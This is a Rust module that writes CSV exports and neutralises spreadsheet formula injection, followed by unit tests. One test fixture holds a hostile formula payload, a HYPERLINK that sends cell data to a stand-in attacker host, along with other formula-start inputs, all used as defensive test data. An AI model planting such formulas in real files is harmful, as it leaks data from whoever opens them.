//! Tables for spreadsheets: the one CSV writer for everything the service
//! exports. Text that a spreadsheet would run as a formula (a cell starting
//! with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's "CSV
//! injection") is neutralised with a leading `'`, which spreadsheets show
//! as text and hide. Numbers the service computes itself go in as numbers.

use std::borrow::Cow;

/// One cell: text from people, or a number of our own.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(i64),
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_string())
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Number(n)
    }
}

/// What a spreadsheet reads as the start of a formula (or, for tab and
/// carriage return, as a way to hide one behind whitespace).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written: text that could start a formula gets a leading `'`.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV table: a header row, then rows of cells, quoted as RFC 4180 asks.
pub struct CsvTable {
    out: csv::Writer<Vec<u8>>,
    columns: usize,
}

#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    #[error("a row has {got} cells, the header {expected}")]
    Width { expected: usize, got: usize },
    #[error(transparent)]
    Csv(#[from] csv::Error),
}

impl CsvTable {
    pub fn new(header: &[&str]) -> Result<Self, CsvError> {
        let mut out = csv::Writer::from_writer(Vec::new());
        out.write_record(header.iter().map(|h| neutralise(h).into_owned()))?;
        Ok(CsvTable {
            out,
            columns: header.len(),
        })
    }

    pub fn row(&mut self, cells: impl IntoIterator<Item = Cell>) -> Result<(), CsvError> {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| match c {
                Cell::Text(t) => neutralise(&t).into_owned(),
                Cell::Number(n) => n.to_string(),
            })
            .collect();
        if cells.len() != self.columns {
            return Err(CsvError::Width {
                expected: self.columns,
                got: cells.len(),
            });
        }
        self.out.write_record(&cells)?;
        Ok(())
    }

    /// The whole table as UTF-8 text.
    pub fn finish(self) -> Result<String, CsvError> {
        let bytes = self
            .out
            .into_inner()
            .map_err(|e| CsvError::Csv(e.into_error().into()))?;
        // Every cell went in as a Rust string, so the bytes are UTF-8.
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(text: &str) -> Vec<Vec<String>> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn formulas_are_neutralised_and_everything_else_kept() {
        let mut t = CsvTable::new(&["text", "n"]).unwrap();
        let hostile = [
            r#"=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")"#,
            "+31 6 1234",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ];
        for h in hostile {
            t.row([Cell::from(h), Cell::from(-5)]).unwrap();
        }
        t.row([
            Cell::from("gewoon, met \"quotes\"\nen een regel"),
            Cell::from(7),
        ])
        .unwrap();
        t.row([Cell::from("a = b"), Cell::from(0)]).unwrap();
        let rows = parse(&t.finish().unwrap());
        for (row, h) in rows.iter().zip(hostile) {
            assert_eq!(row[0], format!("'{h}"));
            // Our own numbers stay numbers, negative ones too.
            assert_eq!(row[1], "-5");
        }
        assert_eq!(rows[6][0], "gewoon, met \"quotes\"\nen een regel");
        assert_eq!(rows[7][0], "a = b", "only the first character counts");
    }

    #[test]
    fn a_row_of_the_wrong_width_is_refused() {
        let mut t = CsvTable::new(&["a", "b"]).unwrap();
        assert!(matches!(
            t.row([Cell::from("x")]),
            Err(CsvError::Width {
                expected: 2,
                got: 1
            })
        ));
    }
}
